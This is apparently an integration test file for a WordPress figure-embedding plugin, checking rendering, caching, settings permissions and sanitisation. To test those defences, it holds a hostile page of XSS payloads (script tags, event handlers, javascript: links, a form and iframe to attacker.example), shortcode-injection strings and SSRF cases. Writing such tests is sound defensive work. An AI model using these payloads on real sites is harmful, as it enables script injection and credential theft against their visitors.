// The plugin on a real WordPress, with a real database, in a real browser: npm run test:wordpress
import assert from "node:assert/strict";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import test, { after, before } from "node:test";
import puppeteer, { type Browser, type BrowserContext, type Page } from "puppeteer-core";
import { chromeArguments, findChrome } from "../../.scripts/browser.mjs";
import { publish, type Published } from "../hosts/published.ts";
import { keep, lacking, password, startWordPress, type User, type WordPress } from "./wordpress.ts";

const missing = lacking();
const skip = missing ? `not tried: ${missing}` : false;

/** A site nobody trusts, whose page of a figure attacks whoever shows it. */
const attack = `<!doctype html><html><head><title>x</title><script type="module" src="../elements/vitrine.js"></script></head><body>
<cs-implementation-gauge src="../documents/x.json" onclick="alert(1)"><figure onmouseover="alert(2)" id="wpadminbar" style="position:fixed">
<script>alert(3)</script><style>body{display:none}</style><h1>Attack</h1><p><a href="javascript:alert(4)">link</a><img src=x onerror=alert(5)></p>
<svg onload="alert(6)"></svg><iframe src="https://attacker.example/"></iframe><form action="https://attacker.example/"><input name="password"></form>[vitrine address="x"]
</figure></cs-implementation-gauge></body></html>`;

let figures: Published;
let wordpress: WordPress;
let browser: Browser;
let attacker: ReturnType<typeof createServer>;
let evil: string;
const gauge = 'cs-implementation-gauge[state="drawn"]';
const sentence = /149 of 240 trained teachers \(62%\) met the implementation bar/;

before(async () => {
  if (skip) return;
  attacker = createServer((request, response) => {
    response.writeHead(200, { "content-type": request.url?.endsWith(".js") ? "text/javascript" : "text/html" });
    response.end(request.url?.endsWith(".js") ? "document.title = 'taken over'" : attack);
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/embed/x.html`;
  figures = await publish();
  wordpress = await startWordPress([figures.address]);
  browser = await puppeteer.launch({ ...(await findChrome()), args: chromeArguments });
});
after(async () => {
  await browser?.close();
  await wordpress?.stop();
  await figures?.close();
  attacker?.close();
});

async function signIn(user: User): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.createBrowserContext();
  const page = await context.newPage();
  await page.setViewport({ width: 1280, height: 900 });
  await page.goto(`${wordpress.address}/wp-login.php`);
  await page.waitForSelector("#user_login");
  await page.evaluate(
    (name, secret) => {
      document.querySelector<HTMLInputElement>("#user_login")!.value = name;
      document.querySelector<HTMLInputElement>("#user_pass")!.value = secret;
    },
    user,
    password,
  );
  await Promise.all([page.waitForNavigation(), page.click("#wp-submit")]);
  return { context, page };
}

/** A post by this user, through the same doors as the editor's own. Gives its address. */
function post(user: User, content: string): Promise<string> {
  return wordpress.php(`wp_set_current_user( get_user_by( 'login', '${user}' )->ID );
if ( current_user_can( 'unfiltered_html' ) ) { throw new Exception( 'This user may write anything.' ); }
kses_init();
echo get_permalink( wp_insert_post( wp_slash( array( 'post_title' => 'News', 'post_status' => 'publish', 'post_content' => base64_decode( '${Buffer.from(content).toString("base64")}' ) ) ), true ) );`);
}

/** What a visitor finds, in a fresh browser. */
async function visit(url: string, scripts = true): Promise<{ page: Page; faults: string[]; fetched: string[] }> {
  const page = await (await browser.createBrowserContext()).newPage();
  const faults: string[] = [];
  const fetched: string[] = [];
  page.on("pageerror", (error) => faults.push((error as Error).message));
  page.on("dialog", (dialog) => (faults.push(dialog.message()), void dialog.dismiss()));
  page.on("request", (request) => fetched.push(request.url()));
  await page.setViewport({ width: 1000, height: 900 });
  await page.setJavaScriptEnabled(scripts);
  await page.goto(url, { waitUntil: "load" });
  return { page, faults, fetched };
}
async function assertLive(url: string, name: string) {
  const { page, faults, fetched } = await visit(url);
  await page.waitForSelector(gauge, { timeout: 20_000 });
  assert.equal(fetched.filter((one) => one.endsWith("/elements/vitrine.js")).length, 1);
  assert.deepEqual(faults, []);
  await page.screenshot({ path: keep(name), fullPage: true });
  const still = await visit(url, false);
  const seen = await still.page.evaluate(() => ({
    text: document.body.innerText,
    image: [...document.querySelectorAll<HTMLImageElement>("figure .picture img")].map(({ alt, width }) => alt.length > 20 && width > 200),
    rows: document.querySelectorAll("figure table tr").length,
    headings: [...document.querySelectorAll("figure :is(h1, h2, h3)")].map(({ localName }) => localName),
  }));
  assert.match(seen.text, sentence);
  assert.deepEqual(seen.image, [true]);
  assert.ok(seen.rows > 5);
  assert.equal(seen.headings[0], "h2");
  await still.page.screenshot({ path: keep(`${name}-no-script`), fullPage: true });
}

test(
  "an editor without unfiltered HTML puts the block in a post, sees the figure, saves, and readers have it live and without a script",
  { skip },
  async () => {
    const { page } = await signIn("editor");
    await page.goto(`${wordpress.address}/wp-admin/post-new.php`, { waitUntil: "load" });
    await page.waitForFunction(() =>
      (globalThis as unknown as { wp?: { data?: { select(name: string): unknown } } }).wp?.data?.select("core/editor"),
    );
    await page.evaluate(async (address) => {
      type Wp = {
        data: { dispatch(name: string): Record<string, (...given: unknown[]) => Promise<unknown>> };
        blocks: { createBlock(name: string, attributes: object): unknown };
      };
      const { data, blocks } = (globalThis as unknown as { wp: Wp }).wp;
      await data.dispatch("core/edit-post")["toggleFeature"]!("welcomeGuide");
      await data.dispatch("core/block-editor")["insertBlocks"]!([blocks.createBlock("vitrine/figure", { address })]);
      await data.dispatch("core/editor")["editPost"]!({ title: "Our teachers", status: "publish" });
    }, `${figures.address}embed/teachers.html`);
    await page.waitForFunction(() => /149 of 240/.test(document.body.innerText), { timeout: 30_000 });
    await page.screenshot({ path: keep("editor") });
    const link = await page.evaluate(async () => {
      type Wp = {
        data: {
          dispatch(name: string): { savePost(): Promise<void> };
          select(name: string): { getPermalink(): string; getEditedPostContent(): string };
        };
      };
      const { data } = (globalThis as unknown as { wp: Wp }).wp;
      await data.dispatch("core/editor").savePost();
      return [data.select("core/editor").getPermalink(), data.select("core/editor").getEditedPostContent()];
    });
    assert.match(link[1]!, /^<!-- wp:vitrine\/figure \{"address":"http[^"]*embed\/teachers\.html"\} \/-->$/);
    await assertLive(link[0]!, "block");
  },
);

test("a shortcode does the same, in a post of an author", { skip }, async () => {
  await assertLive(await post("author", `Before.\n\n[vitrine address="${figures.address}embed/teachers.html"]\n\nAfter.`), "shortcode");
  await assertLive(await post("author", `[vitrine]${figures.address}#teachers[/vitrine]`), "shortcode-gallery");
});

test("an address on a line of its own becomes the figure", { skip }, async () => {
  await assertLive(await post("editor", `Before.\n\n${figures.address}embed/teachers.html\n\nAfter.`), "address");
});

test("what the gallery gives to copy survives an editor's save: the figure whole, of the live snippet its text", { skip }, async () => {
  const gallery = await visit(figures.address, false);
  const copied = (kind: string) => gallery.page.$eval(`pre[aria-labelledby="teachers-${kind}"]`, ({ textContent }) => textContent!);
  for (const kind of ["figure", "element"]) {
    const { page } = await visit(await post("editor", `<!-- wp:html -->\n${await copied(kind)}\n<!-- /wp:html -->`));
    const seen = await page.evaluate(() => ({
      text: document.body.innerText,
      images: [...document.querySelectorAll<HTMLImageElement>("figure img")].filter(({ width }) => width > 200).length,
      ours: document.querySelectorAll("cs-implementation-gauge, script[src*='elements/vitrine']").length,
      links: [...document.links].some(({ href }) => href.endsWith("/embed/teachers.html")),
    }));
    assert.match(seen.text, sentence);
    assert.deepEqual([seen.images, seen.ours, seen.links], [1, 0, true]);
    await page.screenshot({ path: keep(`pasted-${kind}`), fullPage: true });
  }
});

test("plain oEmbed: without the plugin's trust WordPress finds the figure's frame by itself, sandboxed", { skip }, async () => {
  const url = await post("editor", `Before.\n\n${figures.address}embed/schools.html\n\nAfter.`);
  await wordpress.php("update_option( 'vitrine_origins', array() );");
  try {
    const frame = await wordpress.php(
      `wp_set_current_user( get_user_by( 'login', 'editor' )->ID ); echo wp_oembed_get( '${figures.address}embed/schools.html' );`,
    );
    assert.match(frame, /<iframe[^>]*sandbox="allow-scripts"[^>]*src="[^"]*\/embed\/schools\.html/);
    const { page } = await visit(url);
    const inner = await page.waitForSelector("iframe[src*='embed/schools.html']");
    const content = (await inner!.contentFrame())!;
    await content.waitForSelector('cs-school-access-map[state="drawn"]', { timeout: 20_000 });
    await page.screenshot({ path: keep("oembed"), fullPage: true });
  } finally {
    await wordpress.php(`update_option( 'vitrine_origins', vitrine_clean_origins( '${figures.address}' ) );`);
  }
});

test(
  "nobody who may only write a post can make a script run: an untrusted site's page is cleaned, whatever is in it",
  { skip },
  async () => {
    const content = `[vitrine address="${evil}"]<!-- wp:vitrine/figure {"address":"${evil}"} /-->[vitrine address="javascript:alert(1)"][vitrine address='"><script>alert(7)</script>']`;
    const { page, faults, fetched } = await visit(await post("author", content));
    const markup = await page.$eval(".entry-content", ({ innerHTML }) => innerHTML);
    assert.match(markup, /Attack/);
    assert.doesNotMatch(markup, /<script|<style|<iframe|<form|<input|<svg|<cs-|javascript:|\son\w+=|wpadminbar|position:|src="x"/i);
    assert.match(markup, /\[vitrine address="x"\]/, "a shortcode in what others wrote is text");
    assert.deepEqual(faults, []);
    assert.ok(!fetched.some((url) => url.startsWith(new URL(evil).origin) && url.endsWith(".js")));
    assert.notEqual(await page.title(), "taken over");
    await page.screenshot({ path: keep("attack"), fullPage: true });
  },
);

test(
  "the last good figure stays when its publisher is away, and a sentence with a link stands where there never was one",
  { skip },
  async () => {
    const url = await post("editor", `[vitrine address="${figures.address}embed/teachers.html"]`);
    const asked = await wordpress.php(`$key = 'vitrine_' . md5( '${figures.address}embed/teachers.html' );
$kept = get_transient( $key ); $kept['again'] = 0; set_transient( $key, $kept, DAY_IN_SECONDS );
add_filter( 'pre_http_request', fn() => new WP_Error( 'down' ), 99 );
$shown = vitrine_render( '${figures.address}embed/teachers.html' );
$then = get_transient( $key );
echo wp_json_encode( array( 'shown' => $shown, 'rests' => $then['again'] > time() + 30, 'never' => vitrine_render( '${figures.address}embed/nowhere.html' ) ) );`);
    const { shown, rests, never } = JSON.parse(asked) as { shown: string; rests: boolean; never: string };
    assert.match(shown, sentence);
    assert.equal(rests, true);
    assert.match(
      never,
      /^<p class="vitrine-missing"><a href="[^"]*nowhere\.html">This figure could not be loaded\. See it on its own page\.<\/a><\/p>$/,
    );
    await assertLive(url, "after-failure");
  },
);

test("an address is that of a figure's page or the gallery's with a name behind it, and nothing else", { skip }, async () => {
  const site = "https://figures.example.org";
  const cases: Record<string, string | null> = {
    [`${site}/embed/teachers.html`]: `${site}/embed/teachers.html`,
    [` ${site}/cs/embed/es/teachers.html?from=mail#top `]: `${site}/cs/embed/es/teachers.html`,
    [`${site}/r/663d197045968bf8/embed/teachers.html`]: `${site}/r/663d197045968bf8/embed/teachers.html`,
    [`${site}/#teachers`]: `${site}/embed/teachers.html`,
    [`${site}/cs/index.html#teachers`]: `${site}/cs/embed/teachers.html`,
    [`${site}/`]: null,
    [`${site}/#../../secret`]: null,
    [`${site}/documents/teachers.json`]: null,
    "https://user:word@figures.example.org/embed/teachers.html": null,
    "ftp://figures.example.org/embed/teachers.html": null,
    "//figures.example.org/embed/teachers.html": null,
    "javascript:alert(1)//embed/teachers.html": null,
    teachers: null,
    "": null,
  };
  const given = Buffer.from(JSON.stringify(Object.keys(cases))).toString("base64");
  const read = await wordpress.php(`echo wp_json_encode( array_map( 'vitrine_address', json_decode( base64_decode( '${given}' ) ) ) );`);
  assert.deepEqual(JSON.parse(read), Object.values(cases));
});

test(
  "an address inside the server's own network is refused, and so are a page too large, cut off or of another type",
  { skip },
  async () => {
    const answers =
      await wordpress.php(`remove_all_filters( 'http_request_host_is_external' ); remove_all_filters( 'http_allowed_safe_ports' );
$inside = vitrine_fetch( '${figures.address}embed/teachers.html' );
$answer = array( 'response' => array( 'code' => 200 ), 'headers' => array( 'content-type' => 'text/html' ), 'body' => '' );
$told = array();
foreach ( array( 'large' => str_repeat( 'x', VITRINE_LARGEST + 1 ) . '</html>', 'cut' => '<html><body>', 'whole' => '<html></html>' ) as $name => $body ) {
	add_filter( 'pre_http_request', $serve = fn() => array( 'body' => $body ) + $answer, 99 );
	$told[ $name ] = vitrine_fetch( 'https://figures.example.org/embed/x.html' );
	remove_filter( 'pre_http_request', $serve, 99 );
}
add_filter( 'pre_http_request', fn() => array( 'headers' => array( 'content-type' => 'image/png' ), 'body' => '<html></html>' ) + $answer, 99 );
$told['type'] = vitrine_fetch( 'https://figures.example.org/embed/x.html' );
echo wp_json_encode( array( 'inside' => $inside ) + $told );`);
    assert.deepEqual(JSON.parse(answers), { inside: null, large: null, cut: null, whole: "<html></html>", type: null });
  },
);

test("the settings page takes addresses and nothing else, from an administrator only; uninstalling leaves nothing", { skip }, async () => {
  const { page } = await signIn("admin");
  await page.goto(`${wordpress.address}/wp-admin/options-writing.php`);
  await page.waitForSelector("#vitrine_origins");
  await page.screenshot({ path: keep("settings"), fullPage: true });
  await page.$eval(
    "#vitrine_origins",
    (field, own) => ((field as HTMLTextAreaElement).value = `${own}\nHTTPS://Figures.Example.org/deep/?x\njavascript:alert(1)\n<script>`),
    figures.address,
  );
  await Promise.all([page.waitForNavigation(), page.click("#submit")]);
  assert.deepEqual(JSON.parse(await wordpress.php("echo wp_json_encode( vitrine_origins() );")), [
    figures.address.replace(/\/$/, ""),
    "https://figures.example.org",
  ]);
  const { page: other } = await signIn("editor");
  const refused = await other.goto(`${wordpress.address}/wp-admin/options-writing.php`);
  assert.equal(refused!.status(), 403);
  const left =
    await wordpress.php(`define( 'WP_UNINSTALL_PLUGIN', 'vitrine/vitrine.php' ); include WP_PLUGIN_DIR . '/vitrine/uninstall.php';
global $wpdb; echo (int) $wpdb->get_var( "SELECT COUNT(*) FROM {$wpdb->options} WHERE option_name LIKE '%vitrine\\_%'" );`);
  assert.equal(left, "0");
  assert.deepEqual(wordpress.complaints(), []);
});
